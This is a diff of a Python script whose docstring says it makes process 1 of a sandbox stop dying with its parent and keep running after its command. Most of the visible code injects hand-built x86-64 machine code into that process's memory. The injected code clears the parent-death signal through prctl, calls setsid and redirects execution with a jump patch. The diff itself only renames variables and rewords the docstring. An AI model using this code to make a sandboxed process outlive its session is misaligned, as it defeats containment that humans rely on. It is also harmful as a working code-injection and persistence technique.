@@ -1,4 +1,4 @@
-"""Makes process 1 of a sandbox forget that it dies with its parent, then goes on after its command. x86-64."""
+"""Makes process 1 of a sandbox forget that it dies with its parent, then continues after its command. x86-64."""
 import ctypes, os, re, struct, sys, time
 
 libc = ctypes.CDLL(None, use_errno=True)
@@ -65,16 +65,16 @@ def by_memory():
         memory.seek(address)
         return memory.read(size)
 
-    room = low + 0x400
+    space = low + 0x400
     code = b"\x50\x57\x56\x52\x41\x52\x41\x50"
     code += b"\xb8" + struct.pack("<I", PRCTL) + b"\xbf\x01\0\0\0\x31\xf6\x31\xd2\x4d\x31\xd2\x4d\x31\xc0\x0f\x05"
     code += b"\xb8" + struct.pack("<I", SETSID) + b"\x0f\x05"
-    flag = room + 0x100
+    flag = space + 0x100
     code += b"\x49\xbb" + struct.pack("<Q", flag) + b"\x41\x80\x3b\x01\x75\xfa"
     code += b"\x41\x58\x41\x5a\x5a\x5e\x5f\x58\x49\xbb" + struct.pack("<Q", at) + b"\x41\xff\xe3"
-    jump = b"\x49\xbb" + struct.pack("<Q", room) + b"\x41\xff\xe3"
-    kept_room, kept_at = get(room, 0x101), get(at, len(jump))
-    put(room, code)
+    jump = b"\x49\xbb" + struct.pack("<Q", space) + b"\x41\xff\xe3"
+    kept_space, kept_at = get(space, 0x101), get(at, len(jump))
+    put(space, code)
     put(flag, b"\0")
     put(at, jump)
     if os.fork() == 0:
@@ -87,7 +87,7 @@ def by_memory():
     put(at, kept_at)
     put(flag, b"\1")
     time.sleep(0.05)
-    put(room, kept_room)
+    put(space, kept_space)
 
 
 def forget_marker():
